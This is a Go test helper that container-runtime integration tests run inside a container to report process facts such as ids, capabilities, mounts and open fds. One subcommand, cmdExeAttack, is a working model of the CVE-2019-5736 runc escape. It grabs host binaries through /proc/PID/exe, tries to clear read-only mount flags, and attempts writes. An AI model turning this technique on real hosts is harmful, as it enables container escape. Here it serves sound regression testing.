// Command helper is a small static multi-call program that the integration
// tests install in a container rootfs as /helper. Each subcommand prints a
// fact about the process as the container sees it, so that tests can assert
// on what the container saw rather than only on exit codes.
//
// Build it with CGO_ENABLED=0 so that it runs in a rootfs without libc.
//
// The go:debug lines keep the Go runtime from holding cgroup files open
// (container-aware GOMAXPROCS), which would show up in "helper fds".
//
//go:debug containermaxprocs=0
//go:debug updatemaxprocs=0
package main

import (
	"encoding/json"
	"errors"
	"fmt"
	"os"
	"os/signal"
	"path/filepath"
	"sort"
	"strconv"
	"strings"
	"syscall"
	"time"

	"golang.org/x/sys/unix"
)

type command struct {
	args  string
	help  string
	nargs int
	run   func(args []string) error
}

// commands holds every subcommand; files other than this one add theirs
// from their own init functions.
var commands = map[string]command{}

func init() {
	for name, c := range map[string]command{
		"pid":         {"", "print own pid", 0, cmdPid},
		"hostname":    {"", "print the UTS hostname", 0, cmdHostname},
		"id":          {"", "print uid=N gid=N groups=A,B from syscalls", 0, cmdID},
		"caps":        {"", "print the Cap* lines of /proc/self/status", 0, cmdCaps},
		"rlimit":      {"NAME", "print soft and hard limit of RLIMIT_NAME (NOFILE: see cmdRlimit)", 1, cmdRlimit},
		"env":         {"", "print the environment, one VAR=value a line", 0, cmdEnv},
		"cwd":         {"", "print the working directory", 0, cmdCwd},
		"isatty":      {"FD", "print yes or no", 1, cmdIsatty},
		"mounts":      {"", "print /proc/self/mountinfo", 0, cmdMounts},
		"cat":         {"FILE", "print a file", 1, cmdCat},
		"write":       {"FILE TEXT", "write TEXT to FILE (created/truncated)", 2, cmdWrite},
		"ls":          {"DIR", "print the names in DIR, one a line, sorted", 1, cmdLs},
		"stat":        {"PATH", "print type, mode, rdev, uid, gid of PATH (lstat)", 1, cmdStat},
		"sleep":       {"SECONDS", "sleep", 1, cmdSleep},
		"exit":        {"N", "exit with status N", 1, cmdExit},
		"sigwait":     {"", "print ready, wait for a signal, print it, exit 0", 0, cmdSigwait},
		"fds":         {"", "print open fds: N TARGET inside|outside", 0, cmdFds},
		"nnp":         {"", "print the NoNewPrivs value", 0, cmdNnp},
		"umask":       {"", "print the umask in octal", 0, cmdUmask},
		"oomscoreadj": {"", "print /proc/self/oom_score_adj", 0, cmdOomScoreAdj},
		"keyring":     {"", "print the session keyring id and its description", 0, cmdKeyring},
		"ns":          {"", "print TYPE LINK for each /proc/self/ns entry", 0, cmdNs},
		"cgroup":      {"", "print /proc/self/cgroup", 0, cmdCgroup},
		"exeattack":   {"SECONDS", "try to open /proc/*/exe for writing for SECONDS", 1, cmdExeAttack},
		"json":        {"", "print pid, ids, cwd, hostname, env as one JSON object", 0, cmdJSON},
		"sched":       {"", "print policy=, nice=, priority=, flags=, runtime=, deadline=, period= (sched_getattr)", 0, cmdSched},
		"ioprio":      {"", "print class= and priority= (ioprio_get)", 0, cmdIOPrio},
		"affinity":    {"", "print the CPU affinity as a list such as 0-3,7", 0, cmdAffinity},
		"personality": {"", "print persona=0xN and machine= (uname)", 0, cmdPersonality},
		"mempolicy":   {"", "print mode=, flags= and nodes= (get_mempolicy)", 0, cmdMempolicy},
	} {
		commands[name] = c
	}
}

func usage() {
	names := make([]string, 0, len(commands))
	for n := range commands {
		names = append(names, n)
	}
	sort.Strings(names)
	fmt.Fprintln(os.Stderr, "usage: helper COMMAND [ARGS]")
	for _, n := range names {
		c := commands[n]
		fmt.Fprintf(os.Stderr, "  %-12s %-10s %s\n", n, c.args, c.help)
	}
}

func main() {
	if len(os.Args) < 2 {
		usage()
		os.Exit(2)
	}
	c, ok := commands[os.Args[1]]
	if !ok {
		fmt.Fprintf(os.Stderr, "helper: unknown command %q\n", os.Args[1])
		usage()
		os.Exit(2)
	}
	args := os.Args[2:]
	if len(args) < c.nargs {
		fmt.Fprintf(os.Stderr, "helper %s: needs %s\n", os.Args[1], c.args)
		os.Exit(2)
	}
	if err := c.run(args); err != nil {
		// Printed on stdout too, so that a test capturing only stdout sees it.
		fmt.Println(err.Error())
		fmt.Fprintf(os.Stderr, "helper %s: %v\n", os.Args[1], err)
		os.Exit(1)
	}
}

func cmdPid([]string) error {
	fmt.Println(os.Getpid())
	return nil
}

func cmdHostname([]string) error {
	var u unix.Utsname
	if err := unix.Uname(&u); err != nil {
		return err
	}
	fmt.Println(unix.ByteSliceToString(u.Nodename[:]))
	return nil
}

func groups() (string, error) {
	gs, err := unix.Getgroups()
	if err != nil {
		return "", err
	}
	sort.Ints(gs)
	s := make([]string, len(gs))
	for i, g := range gs {
		s[i] = strconv.Itoa(g)
	}
	return strings.Join(s, ","), nil
}

func cmdID([]string) error {
	g, err := groups()
	if err != nil {
		return err
	}
	fmt.Printf("uid=%d gid=%d euid=%d egid=%d groups=%s\n",
		unix.Getuid(), unix.Getgid(), unix.Geteuid(), unix.Getegid(), g)
	return nil
}

// statusLines prints the lines of /proc/self/status whose key has prefix.
func statusLines(prefix string) error {
	b, err := os.ReadFile("/proc/self/status")
	if err != nil {
		return err
	}
	found := false
	for _, l := range strings.Split(string(b), "\n") {
		if strings.HasPrefix(l, prefix) {
			k, v, _ := strings.Cut(l, ":")
			fmt.Printf("%s: %s\n", k, strings.TrimSpace(v))
			found = true
		}
	}
	if !found {
		return fmt.Errorf("no %s line in /proc/self/status", prefix)
	}
	return nil
}

func cmdCaps([]string) error { return statusLines("Cap") }

func cmdNnp([]string) error {
	b, err := os.ReadFile("/proc/self/status")
	if err != nil {
		return err
	}
	for _, l := range strings.Split(string(b), "\n") {
		if v, ok := strings.CutPrefix(l, "NoNewPrivs:"); ok {
			fmt.Println(strings.TrimSpace(v))
			return nil
		}
	}
	return errors.New("no NoNewPrivs line in /proc/self/status")
}

var rlimits = map[string]int{
	"AS": unix.RLIMIT_AS, "CORE": unix.RLIMIT_CORE, "CPU": unix.RLIMIT_CPU,
	"DATA": unix.RLIMIT_DATA, "FSIZE": unix.RLIMIT_FSIZE, "LOCKS": unix.RLIMIT_LOCKS,
	"MEMLOCK": unix.RLIMIT_MEMLOCK, "MSGQUEUE": unix.RLIMIT_MSGQUEUE, "NICE": unix.RLIMIT_NICE,
	"NOFILE": unix.RLIMIT_NOFILE, "NPROC": unix.RLIMIT_NPROC, "RSS": unix.RLIMIT_RSS,
	"RTPRIO": unix.RLIMIT_RTPRIO, "RTTIME": unix.RLIMIT_RTTIME, "SIGPENDING": unix.RLIMIT_SIGPENDING,
	"STACK": unix.RLIMIT_STACK,
}

func fmtLimit(v uint64) string {
	if v == unix.RLIM_INFINITY {
		return "unlimited"
	}
	return strconv.FormatUint(v, 10)
}

// cmdRlimit prints "SOFT HARD" of one limit. Caveat: the Go runtime raises
// its own soft RLIMIT_NOFILE to the hard limit at startup, so for NOFILE the
// soft value printed is the hard one; ask a shell (`ulimit -Sn`) instead.
func cmdRlimit(args []string) error {
	name := strings.TrimPrefix(strings.ToUpper(args[0]), "RLIMIT_")
	res, ok := rlimits[name]
	if !ok {
		return fmt.Errorf("unknown rlimit %q", args[0])
	}
	var rl unix.Rlimit
	// Prlimit on pid 0 reads the real value; Go's Getrlimit wrapper may
	// report the value it saved at startup for NOFILE.
	if err := unix.Prlimit(0, res, nil, &rl); err != nil {
		return err
	}
	fmt.Printf("%s %s\n", fmtLimit(rl.Cur), fmtLimit(rl.Max))
	return nil
}

func cmdEnv([]string) error {
	for _, e := range os.Environ() {
		fmt.Println(e)
	}
	return nil
}

func cmdCwd([]string) error {
	// unix.Getwd fails with ENOENT when the kernel reports the cwd as
	// "(unreachable)...", i.e. outside of the process's root.
	wd, err := unix.Getwd()
	if err != nil {
		link, _ := os.Readlink("/proc/self/cwd")
		return fmt.Errorf("getcwd: %v (cwd link %q)", err, link)
	}
	fmt.Println(wd)
	return nil
}

func cmdIsatty(args []string) error {
	fd, err := strconv.Atoi(args[0])
	if err != nil {
		return err
	}
	if _, err := unix.IoctlGetTermios(fd, unix.TCGETS); err == nil {
		fmt.Println("yes")
	} else {
		fmt.Println("no")
	}
	return nil
}

func catFile(name string) error {
	b, err := os.ReadFile(name)
	if err != nil {
		return err
	}
	_, err = os.Stdout.Write(b)
	return err
}

func cmdMounts([]string) error { return catFile("/proc/self/mountinfo") }
func cmdCgroup([]string) error { return catFile("/proc/self/cgroup") }
func cmdCat(args []string) error {
	return catFile(args[0])
}

func cmdOomScoreAdj([]string) error { return catFile("/proc/self/oom_score_adj") }

func cmdWrite(args []string) error {
	f, err := os.OpenFile(args[0], os.O_WRONLY|os.O_CREATE|os.O_TRUNC, 0o644)
	if err != nil {
		return err
	}
	if _, err := f.WriteString(args[1]); err != nil {
		f.Close()
		return err
	}
	return f.Close()
}

func cmdLs(args []string) error {
	ents, err := os.ReadDir(args[0])
	if err != nil {
		return err
	}
	for _, e := range ents {
		fmt.Println(e.Name())
	}
	return nil
}

func fileType(m uint32) string {
	switch m & unix.S_IFMT {
	case unix.S_IFREG:
		return "file"
	case unix.S_IFDIR:
		return "dir"
	case unix.S_IFLNK:
		return "symlink"
	case unix.S_IFCHR:
		return "char"
	case unix.S_IFBLK:
		return "block"
	case unix.S_IFIFO:
		return "fifo"
	case unix.S_IFSOCK:
		return "socket"
	}
	return "unknown"
}

func cmdStat(args []string) error {
	var st unix.Stat_t
	if err := unix.Lstat(args[0], &st); err != nil {
		return err
	}
	fmt.Printf("type=%s mode=%04o dev=%d:%d uid=%d gid=%d\n", fileType(st.Mode),
		st.Mode&0o7777, unix.Major(st.Rdev), unix.Minor(st.Rdev), st.Uid, st.Gid)
	return nil
}

func cmdSleep(args []string) error {
	d, err := strconv.ParseFloat(args[0], 64)
	if err != nil {
		return err
	}
	time.Sleep(time.Duration(d * float64(time.Second)))
	return nil
}

func cmdExit(args []string) error {
	n, err := strconv.Atoi(args[0])
	if err != nil {
		return err
	}
	os.Exit(n)
	return nil
}

func cmdSigwait([]string) error {
	ch := make(chan os.Signal, 1)
	// Every catchable signal, so that pid 1 in a pid namespace (which
	// ignores signals without a handler) still sees them.
	var sigs []os.Signal
	for s := syscall.Signal(1); s < 32; s++ {
		if s == unix.SIGKILL || s == unix.SIGSTOP || s == unix.SIGCHLD || s == unix.SIGURG || s == unix.SIGWINCH {
			continue
		}
		sigs = append(sigs, s)
	}
	signal.Notify(ch, sigs...)
	fmt.Println("ready")
	s := <-ch
	n := int(s.(syscall.Signal))
	fmt.Printf("%s %d\n", unix.SignalName(s.(syscall.Signal)), n)
	return nil
}

// cmdFds lists the open fds. Each line is "N TARGET inside|outside": outside
// means the fd refers to a file that the process cannot reach by the path
// the kernel reports for it, i.e. a file outside of its root.
func cmdFds([]string) error {
	// Raw syscalls: os.Open would register the fd with the Go netpoller,
	// which opens epoll and eventfd descriptors of its own.
	own, err := unix.Open("/proc/self/fd", unix.O_RDONLY|unix.O_DIRECTORY|unix.O_CLOEXEC, 0)
	if err != nil {
		return err
	}
	var names []string
	buf := make([]byte, 8192)
	for {
		n, err := unix.ReadDirent(own, buf)
		if err != nil {
			unix.Close(own)
			return err
		}
		if n == 0 {
			break
		}
		_, _, names = unix.ParseDirent(buf[:n], -1, names)
	}
	var fds []int
	for _, n := range names {
		fd, err := strconv.Atoi(n)
		if err != nil || fd == own {
			continue
		}
		fds = append(fds, fd)
	}
	sort.Ints(fds)
	for _, fd := range fds {
		target, err := os.Readlink(fmt.Sprintf("/proc/self/fd/%d", fd))
		if err != nil {
			continue
		}
		fmt.Printf("%d %s %s\n", fd, target, reach(fd, target))
	}
	unix.Close(own)
	return nil
}

func reach(fd int, target string) string {
	if !strings.HasPrefix(target, "/") {
		// pipe:[N], socket:[N], anon_inode:...: no path to escape through.
		return "inside"
	}
	var a, b unix.Stat_t
	if err := unix.Fstat(fd, &a); err != nil {
		return "inside"
	}
	p := strings.TrimSuffix(target, " (deleted)")
	if err := unix.Stat(p, &b); err != nil {
		return "outside"
	}
	if a.Dev != b.Dev || a.Ino != b.Ino {
		return "outside"
	}
	return "inside"
}

func cmdUmask([]string) error {
	m := unix.Umask(0)
	unix.Umask(m)
	fmt.Printf("%04o\n", m)
	return nil
}

func cmdKeyring([]string) error {
	id, err := unix.KeyctlInt(unix.KEYCTL_GET_KEYRING_ID, unix.KEY_SPEC_SESSION_KEYRING, 0, 0, 0)
	if err != nil {
		return fmt.Errorf("keyctl get session keyring: %w", err)
	}
	desc, err := unix.KeyctlString(unix.KEYCTL_DESCRIBE, id)
	if err != nil {
		desc = "describe: " + err.Error()
	}
	fmt.Printf("%d %s\n", id, desc)
	return nil
}

func cmdNs([]string) error {
	ents, err := os.ReadDir("/proc/self/ns")
	if err != nil {
		return err
	}
	for _, e := range ents {
		l, err := os.Readlink(filepath.Join("/proc/self/ns", e.Name()))
		if err != nil {
			l = "error: " + err.Error()
		}
		fmt.Printf("%s %s\n", e.Name(), l)
	}
	return nil
}

// cmdExeAttack models CVE-2019-5736: a process in the container watches for
// any process whose executable lies outside of the container's view (e.g. the
// runtime while it joins the container during exec) and tries to write to
// that binary, both directly through /proc/PID/exe and through an O_PATH
// handle kept open until the binary is no longer busy. For each binary it
// managed to write to it prints "WROTE <pid> <target>"; it ends with
// "done tries=N held=H writable=M". Executables that the container can reach
// by path itself (its own /bin/busybox, /helper) are left alone.
//
// With CAP_SYS_ADMIN it first clears MOUNT_ATTR_RDONLY on the mount behind
// each held handle ("REMOUNTED-RW <pid> <target>"): a read-only bind mount
// is no protection if the container may change its flags.
//
// The write is a proof, not damage: it writes back the bytes that are already
// at offset 0, so a vulnerable binary keeps its content (only its mtime
// changes). A sealed or read-only copy refuses the write.
func cmdExeAttack(args []string) error {
	secs, err := strconv.ParseFloat(args[0], 64)
	if err != nil {
		return err
	}
	self := os.Getpid()
	deadline := time.Now().Add(time.Duration(secs * float64(time.Second)))
	held := map[int]string{}        // O_PATH fd -> "pid target"
	seen := map[string]bool{}       // "pid target" already held
	seenTarget := map[string]bool{} // targets already reported
	tries, writable := 0, 0
	tryWrite := func(path, what string) bool {
		tries++
		fd, err := unix.Open(path, unix.O_RDWR|unix.O_CLOEXEC, 0)
		if err != nil {
			return false
		}
		defer unix.Close(fd)
		orig := make([]byte, 16)
		n, err := unix.Pread(fd, orig, 0)
		if err != nil || n == 0 {
			fmt.Printf("OPENED-NOT-READ %s: %v\n", what, err)
			return false
		}
		if _, err := unix.Pwrite(fd, orig[:n], 0); err != nil {
			fmt.Printf("OPENED-NOT-WRITTEN %s: %v\n", what, err)
			return false
		}
		writable++
		fmt.Printf("WROTE %s\n", what)
		return true
	}
	for time.Now().Before(deadline) {
		ents, _ := os.ReadDir("/proc")
		for _, e := range ents {
			pid, err := strconv.Atoi(e.Name())
			if err != nil || pid == self {
				continue
			}
			exe := fmt.Sprintf("/proc/%d/exe", pid)
			fd, err := unix.Open(exe, unix.O_PATH|unix.O_CLOEXEC, 0)
			if err != nil {
				continue
			}
			target, _ := os.Readlink(exe)
			what := fmt.Sprintf("%d %s", pid, target)
			if seen[what] || reach(fd, target) == "inside" || len(held) >= 512 {
				unix.Close(fd)
			} else {
				seen[what] = true
				held[fd] = what
				if !seenTarget[target] {
					seenTarget[target] = true
					fmt.Printf("SAW %s\n", what)
				}
				// A read-only mount of the binary (the runtime's
				// detached bind mount) is made writable if the
				// container may: see clearReadonly.
				if how, err := clearReadonly(fd); err == nil {
					fmt.Printf("REMOUNTED-RW %s (%s)\n", what, how)
				}
			}
			if seen[what] {
				tryWrite(exe, what)
			}
		}
		for fd, what := range held {
			// Once is proof enough: don't print it on every round.
			if tryWrite(fmt.Sprintf("/proc/self/fd/%d", fd), what+" (via O_PATH)") {
				unix.Close(fd)
				delete(held, fd)
			}
		}
		time.Sleep(time.Millisecond)
	}
	fmt.Printf("done tries=%d held=%d writable=%d\n", tries, len(seen), writable)
	return nil
}

func cmdJSON([]string) error {
	wd, _ := os.Getwd()
	h, _ := os.Hostname()
	g, _ := unix.Getgroups()
	out := map[string]any{
		"pid": os.Getpid(), "uid": unix.Getuid(), "gid": unix.Getgid(),
		"groups": g, "cwd": wd, "hostname": h, "env": os.Environ(),
	}
	return json.NewEncoder(os.Stdout).Encode(out)
}
